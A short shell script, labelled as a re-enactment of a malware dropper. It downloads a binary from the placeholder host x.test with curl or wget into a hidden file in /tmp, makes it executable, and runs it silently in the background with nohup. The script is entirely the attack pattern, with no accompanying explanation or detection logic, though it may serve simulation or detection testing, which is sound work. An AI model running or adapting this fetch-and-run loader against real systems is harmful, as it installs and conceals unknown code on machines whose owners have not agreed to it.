#!/bin/sh
# re-enactment of a dropper: download, chmod, run in the background
cd /tmp
curl -s http://x.test/bin -o /tmp/.worker || wget -q http://x.test/bin -O /tmp/.worker
chmod +x /tmp/.worker
nohup /tmp/.worker >/dev/null 2>&1 &
